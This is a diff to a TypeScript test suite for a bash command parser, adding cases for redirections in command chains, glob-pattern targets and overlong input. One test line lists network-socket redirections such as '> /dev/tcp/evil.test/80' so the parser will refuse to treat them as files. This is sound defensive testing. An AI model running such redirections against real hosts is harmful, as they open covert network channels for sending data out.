@@ -6,7 +6,7 @@ import { fuzzCommands } from '../fuzz/commands.ts';
 import { lineProblem, words } from '../commands/judge-line.ts';
 import { TECHNIQUES } from '../commands/lines.ts';
 import { commandLine } from '../differential/command-lines.ts';
-import { randomFrom } from '../differential/random.ts';
+import { randomFrom } from '../support/random.ts';
 
 beforeAll(loadCommandReader);
 
@@ -88,6 +88,19 @@ describe('a redirection to a file', () => {
     expect(found[0]?.argv).not.toBeNull();
   });
 
+  test.each([
+    ['a && b < in', [[], ['in']]],
+    ['a || ! b > out', [[], ['out']]],
+    ['a < in && b', [['in'], []]],
+    ['a && b | c <in >out', [[], [], ['in', 'out']]],
+    ['a < in | b > one && c > two', [['in'], ['one'], ['two']]],
+  ])('belongs to one command of a chain: %j', (line, opened) => {
+    const read = readCommand(line, 'bash');
+    const commands = read.kind === 'parsed' ? read.commands : [];
+    expect(commands.map(({ redirections }) => redirections.map(({ path }) => path))).toEqual(opened);
+    expect(commands.map(({ argv }) => argv)).not.toContain(null);
+  });
+
   test('of several commands is there too, and is nobody’s words', () => {
     const read = readCommand('{ ls; pwd; } > out', 'bash');
     expect(read.kind === 'parsed' ? read.commands.at(-1) : null).toMatchObject({
@@ -95,6 +108,14 @@ describe('a redirection to a file', () => {
       redirections: [{ path: 'out', access: 'write' }],
     });
   });
+
+  test.each(['cat < src/*', 'echo a > src/a?.ts', 'echo a 2>> src/[ab].ts'])(
+    'isn’t known when its name is a pattern: %s',
+    (line) => {
+      const read = readCommand(line, 'bash');
+      expect(read.kind === 'parsed' ? read.commands : []).toMatchObject([{ argv: null, redirections: [] }]);
+    },
+  );
 
   test.each(['> /dev/tcp/evil.test/80', '< /dev/udp/a/1', '> //dev//tcp/a/1', '> /proc/self/fd/1'])(
     'isn’t one when its name opens something else: %s',
@@ -114,6 +135,7 @@ describe('a line that can’t be worked out', () => {
     ['git status\u200b', 'it holds a character that can’t be seen'],
     ['ls '.repeat(10_000), 'it is longer than a command line'],
     [`ls ${'<'.repeat(5_000)}`, 'it is too long for what stands in it'],
+    ['ls;'.repeat(3_001), 'it has too many words'],
     ['echo a {fd}>x', 'it can be read in two ways'],
   ])('says why: %j', (line, why) => {
     expect(readCommand(line, 'bash')).toEqual({ kind: 'unparsed', why });
